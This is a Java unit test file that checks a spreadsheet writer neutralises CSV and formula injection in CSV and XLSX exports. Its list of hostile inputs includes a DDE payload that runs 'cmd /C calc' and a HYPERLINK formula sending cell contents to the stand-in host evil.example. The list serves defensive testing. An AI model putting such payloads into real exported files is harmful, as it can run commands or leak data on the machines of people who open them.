package se.motesplats.shared.sheet.service;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files for spreadsheets, read back with our own reader. */
class SheetWriterTest {

    /** What people have typed into fields that others download (OWASP, CSV injection). */
    private static final List<String> HOSTILE =
            List.of(
                    "=1+1",
                    "+46 31 335 50 00",
                    "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+9)*cmd|' /C calc'!A0",
                    "=HYPERLINK(\"https://evil.example/?\"&A1;\"klicka\")",
                    "\t=1+1",
                    "\r=1+1",
                    "\n=1+1",
                    "\u0000=1+1",
                    "  =1+1",
                    "\u00A0=1+1",
                    "\u200B=1+1",
                    "\uFEFF=1+1",
                    "\u202E=1+1",
                    "＝1+1",
                    "＋1",
                    "－1",
                    "＠SUM(A1)",
                    "﹦1",
                    "﹢1",
                    "﹣1",
                    "﹫x",
                    "−1",
                    "\";=1+1;\"",
                    "\"=1+1",
                    "';=1+1",
                    "_x003D_1+1");

    private static final List<SheetWriter.Column> TWO =
            List.of(new SheetWriter.Column("Namn", 20), new SheetWriter.Column("=Antal", 10));

    @ParameterizedTest
    @EnumSource(SheetFormat.class)
    void no_cell_ever_is_a_formula(SheetFormat format) throws IOException {
        List<TableRow> rows = TableReader.read(file(format, HOSTILE), 100).rows();
        assertThat(rows).hasSize(HOSTILE.size() + 1);
        for (TableRow row : rows) {
            assertThat(row.cells()).as("%s", row).hasSize(2);
            assertThat(row.cells()).as("%s", row).noneMatch(TableRow.Cell::isFormula);
        }
        assertThat(rows.get(1).text(0)).endsWith("=1+1");
        assertThat(rows.get(1).text(1)).isEqualTo("7");
    }

    @Test
    void a_workbook_has_a_sheet_for_each_table_with_a_name_of_its_own() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        String longName = "Platser som du har eller har haft";
        List<List<@Nullable Object>> hostile = new ArrayList<>();
        HOSTILE.forEach(text -> hostile.add(List.of(text, 7)));
        Workbook.write(
                List.of(
                        new Workbook.Sheet("Du & jag", TWO, hostile),
                        new Workbook.Sheet(longName, TWO.subList(0, 1), List.of(List.of("Ett"))),
                        new Workbook.Sheet(longName.toUpperCase(Locale.ROOT), TWO, List.of())),
                out);

        String workbook = part(out.toByteArray(), "xl/workbook.xml");
        assertThat(workbook)
                .contains("name=\"Du &amp; jag\" sheetId=\"1\" r:id=\"rId1\"")
                .contains("name=\"Platser som du har eller har ha\" sheetId=\"2\"")
                .contains("name=\"PLATSER SOM DU HAR ELLER HAR  2\" sheetId=\"3\"");
        List<TableRow> first = TableReader.read(out.toByteArray(), 100).rows();
        assertThat(first).hasSize(HOSTILE.size() + 1);
        assertThat(first).flatExtracting(TableRow::cells).noneMatch(TableRow.Cell::isFormula);
        for (int sheet = 1; sheet <= 3; sheet++) {
            assertThat(part(out.toByteArray(), "xl/worksheets/sheet" + sheet + ".xml"))
                    .doesNotContain("<f")
                    .endsWith("</sheetData></worksheet>");
        }
        assertThat(part(out.toByteArray(), "xl/worksheets/sheet2.xml"))
                .contains("Ett")
                .contains("r=\"A2\"")
                .doesNotContain("tabSelected");
        assertThat(part(out.toByteArray(), "[Content_Types].xml")).contains("sheet3.xml");
        assertThat(part(out.toByteArray(), "xl/_rels/workbook.xml.rels"))
                .contains("Id=\"rId3\"")
                .contains("worksheets/sheet3.xml");
    }

    @Test
    void a_workbook_keeps_every_text_as_text() throws IOException {
        String sheet = part(file(SheetFormat.XLSX, HOSTILE), "xl/worksheets/sheet1.xml");
        assertThat(sheet).doesNotContain("<f").doesNotContain("t=\"str\"").doesNotContain("\u0000");
        // Edited, it is typed anew; the sign of the apostrophe keeps it text even then.
        assertThat(sheet)
                .contains(
                        "s=\"5\" t=\"inlineStr\"><is><t xml:space=\"preserve\">=1+1</t>",
                        "s=\"5\" t=\"inlineStr\"><is><t xml:space=\"preserve\">＝1+1</t>",
                        "s=\"4\" t=\"inlineStr\"><is><t xml:space=\"preserve\">_x005F_x003D_1+1</t>");
    }

    @Test
    void text_has_an_apostrophe_before_what_could_be_a_formula_and_quotes_around_all()
            throws IOException {
        String text = new String(file(SheetFormat.CSV, HOSTILE), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF\"Namn\";\"'=Antal\"\r\n\"'=1+1\";7\r\n");
        assertThat(text)
                .contains("\"'＝1+1\";7", "\"'\t=1+1\";7", "\"' =1+1\";7", "\"\"\";=1+1;\"\"\";7")
                .doesNotContain("\u0000");
        assertThat(text.lines())
                .hasSize(HOSTILE.size() + 1)
                .allMatch(l -> l.endsWith("\";7") || l.endsWith("Antal\""));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Åsa Öhman", "a=b", "12-3", "ditt@namn.se", "", " ", "3+4", "_"})
    void an_ordinary_text_stays_as_it_is(String text) throws IOException {
        assertThat(SheetWriter.isFormula(text)).isFalse();
        String csv = new String(file(SheetFormat.CSV, List.of(text)), StandardCharsets.UTF_8);
        assertThat(csv).endsWith("\r\n\"" + text + "\";7\r\n");
    }

    @Test
    void numbers_days_and_moments_keep_their_kind() throws IOException {
        LocalDate day = LocalDate.of(2022, 4, 6);
        // Summer time: 11:30 in Sweden.
        Instant moment = Instant.parse("2022-04-06T09:30:59Z");
        @Nullable Object[] cells = {
            "text", -3, 30_000_000_000L, new BigDecimal("-2.50"), day, moment, null
        };
        String sheet = part(write(SheetFormat.XLSX, cells), "xl/worksheets/sheet1.xml");
        assertThat(sheet)
                .contains(
                        "<c r=\"B2\" s=\"0\"><v>-3</v></c><c r=\"C2\" s=\"0\"><v>30000000000</v></c>",
                        "<c r=\"D2\" s=\"0\"><v>-2.50</v></c>",
                        // 44657 is 6 April 2022, as every spreadsheet counts.
                        "<c r=\"E2\" s=\"2\"><v>44657</v></c>",
                        "<c r=\"F2\" s=\"3\"><v>44657.479166667</v></c></row>");
        assertThat(new String(write(SheetFormat.CSV, cells), StandardCharsets.UTF_8))
                .endsWith("\"text\";-3;30000000000;-2,50;2022-04-06;2022-04-06 11:30;\r\n");
    }

    @Test
    void the_heading_of_a_workbook_is_bold_and_stays() throws IOException {
        byte[] file = file(SheetFormat.XLSX, List.of("x"));
        String sheet = part(file, "xl/worksheets/sheet1.xml");
        assertThat(sheet)
                .contains("<pane ySplit=\"1\" topLeftCell=\"A2\"", "state=\"frozen\"")
                .contains("<c r=\"A1\" s=\"1\" t=\"inlineStr\">");
        assertThat(part(file, "xl/workbook.xml"))
                .contains("name=\"Folk  &quot;och&quot; &amp; rövare\"");
    }

    @ParameterizedTest
    @EnumSource(SheetFormat.class)
    void holds_what_no_file_may_hold_back(SheetFormat format) throws IOException {
        String long_ = "å".repeat(40_000);
        List<TableRow> rows =
                TableReader.read(
                                file(
                                        format,
                                        List.of(
                                                "a\u0001b\u0008c\uFFFEd",
                                                "e\uD800f",
                                                long_,
                                                "g\r\nh")),
                                10)
                        .rows();
        assertThat(rows).extracting(r -> r.text(0)).contains("abcd", "ef");
        assertThat(rows.get(3).text(0)).startsWith("ååå");
    }

    @ParameterizedTest
    @EnumSource(SheetFormat.class)
    void writes_as_the_rows_come(SheetFormat format) throws IOException {
        Counting out = new Counting();
        long before;
        try (SheetWriter sheet = SheetWriter.open(format, "Folk", TWO, out)) {
            for (int i = 0; i < 15_000; i++) {
                sheet.row("Person nummer " + i, i);
            }
            before = out.bytes;
            for (int i = 0; i < 15_000; i++) {
                sheet.row("Person nummer " + i, i);
            }
        }
        assertThat(before)
                .as("half of it is out at half time")
                .isBetween((long) (out.bytes * 0.4), (long) (out.bytes * 0.6));
    }

    @Test
    void refuses_rows_that_do_not_fit_and_cells_that_it_does_not_know() throws IOException {
        try (SheetWriter sheet =
                SheetWriter.open(SheetFormat.CSV, "Folk", TWO, OutputStream.nullOutputStream())) {
            assertThatThrownBy(() -> sheet.row("one")).isInstanceOf(IllegalArgumentException.class);
            assertThatThrownBy(() -> sheet.row("one", 1.5))
                    .isInstanceOf(IllegalArgumentException.class);
        }
    }

    private static final class Counting extends OutputStream {
        private long bytes;

        @Override
        public void write(int b) {
            bytes++;
        }
    }

    private static byte[] file(SheetFormat format, List<String> texts) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SheetWriter sheet = SheetWriter.open(format, "Folk: \"och\" & rövare", TWO, out)) {
            for (String text : texts) {
                sheet.row(text, 7);
            }
        }
        return out.toByteArray();
    }

    private static byte[] write(SheetFormat format, @Nullable Object... cells) throws IOException {
        List<SheetWriter.Column> columns = new ArrayList<>();
        for (int i = 0; i < cells.length; i++) {
            columns.add(new SheetWriter.Column("K" + i, 12));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SheetWriter sheet = SheetWriter.open(format, "Typer", columns, out)) {
            sheet.row(cells);
        }
        return out.toByteArray();
    }

    private static String part(byte[] file, String name) throws IOException {
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(file))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().equals(name)) {
                    return new String(zip.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new AssertionError(name);
    }
}
